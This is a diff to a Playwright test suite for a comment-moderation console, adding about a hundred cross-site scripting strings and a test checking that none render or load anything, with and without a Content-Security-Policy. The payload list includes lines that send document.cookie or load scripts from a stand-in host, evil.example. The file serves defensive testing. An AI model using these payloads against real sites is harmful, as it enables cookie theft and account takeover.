@@ -30,10 +30,39 @@ ATTACKS = [
     "<style>@import '//evil.example/x.css';</style><meta http-equiv=refresh content='0;url=//evil.example'>",
     "<math><mtext></p><mglyph><style><img src onerror=alert(1)>",
 ]
+_PAYLOADS = (
+    "alert(1)",
+    "confirm`1`",
+    "prompt(document.cookie)",
+    "fetch('//evil.example/'+document.cookie)",
+    "location='//evil.example'",
+    "document.body.innerHTML=1",
+    "import('//evil.example/x.js')",
+    "top['al'+'ert'](1)",
+    "eval('\\x61lert(1)')",
+    "new Image().src='//evil.example'",
+)
+_WAYS = (
+    "<script>{}</script>",
+    "</template></textarea></title><svg/onload={}>",
+    "\"'><img src=x onerror={}>",
+    "<details open ontoggle={}><summary>x</summary></details>",
+    "<iframe srcdoc='<script>{}</script>'></iframe>",
+    "<a href=javascript:{}>x</a>",
+    "{{{{ {} }}}} ${{{}}} {{% {} %}}",
+    '<math><mi//xlink:href="data:x,<script>{}</script>">',
+    "</span></mark></div></dialog><input autofocus onfocus={}>",
+    "<x style=animation-name:rise onanimationstart={}>\u202e\u0000"[:-1],
+)
+HUNDRED = [
+    way.format(*[payload] * way.count("{}")) if way.count("{}") == 1 else way.replace("{}", payload)
+    for way in _WAYS
+    for payload in _PAYLOADS
+]
 # What could run or load something. No page of the console has any of it but the logo, so the rest came with a text.
 FOREIGN_MARKUP = """() => [...document.querySelectorAll('*')]
     .filter(node => !node.matches('.top > .brand > img[src="/console/static/icon.svg"]'))
-    .filter(node => !node.matches('head > script[type=module][src^="/console/static/desk/"]'))
+    .filter(node => !node.matches('head > script[type=module][src^="/console/static/"]'))
     .filter(node => node.matches('script, style, iframe, object, embed, img, base, math, [style], [src], [srcdoc]')
         || [...node.attributes].some(given => given.name.startsWith('on') || /^javascript:/i.test(given.value.trim())))
     .map(node => node.outerHTML)"""
@@ -66,6 +95,50 @@ def test_stored_attacks_are_shown_as_text(desk: Desk, page: Page, browser: Brows
     assert {text.strip() for text in scripted.locator(".text").all_text_contents()} == set(ATTACKS)
     assert not dialogs
     assert all(url.startswith(f"{desk.url}/") for url in asked)
+    context.close()
+
+
+@pytest.mark.parametrize("without_policy", [False, True], ids=["policy", "no policy"])
+def test_hundred_attacks_run_nowhere(desk: Desk, page: Page, browser: Browser, without_policy: bool) -> None:
+    """Wherever the desk shows foreign text, with the Content-Security-Policy and with the browser told to ignore it."""
+    made = [
+        NewComment(
+            body=attack,
+            author_name=attack,
+            author_id="mallory",
+            author_url=f"https://evil.example/{attack}",
+            page_title=attack,
+            page_url=f"javascript:{attack}",
+        )
+        for attack in HUNDRED
+    ]
+    items = desk.hold_all(made, spans=((0, 5), (3, 9)))
+    join(page, desk, f"Yvo <img src=x onerror=alert(1)> {without_policy}", Role.LEAD)
+    context = browser.new_context(
+        storage_state=page.context.storage_state(), bypass_csp=without_policy, viewport={"width": 1500, "height": 900}
+    )
+    seen = Watched.over(context, f"{desk.url}/")
+    scripted = context.new_page()
+
+    for path in ("", f"?q={requests.utils.quote(HUNDRED[3])}", "/decided", "/clusters", "/overview"):
+        scripted.goto(f"{desk.url}/console{path}")
+        assert scripted.evaluate(FOREIGN_MARKUP) == [], path
+    scripted.goto(f"{desk.url}/console")
+    scripted.keyboard.press("*")
+    scripted.get_by_role("button", name="Reject selected").click()
+    expect(scripted.locator("#bulk-samples li")).to_have_count(5)
+    assert scripted.evaluate(FOREIGN_MARKUP) == []
+    scripted.goto(f"{desk.url}/console/review/{items[0]}")
+    shown: set[str] = set()
+    for _ in range(len(items)):
+        item = scripted.locator("#sheet").get_attribute("data-item") or ""
+        shown.add(item)
+        assert scripted.evaluate(FOREIGN_MARKUP) == []
+        scripted.keyboard.press("j")
+        expect(scripted.locator("#sheet")).not_to_have_attribute("data-item", item)
+
+    assert len(shown) > 90
+    assert seen == Watched()
     context.close()
 
 
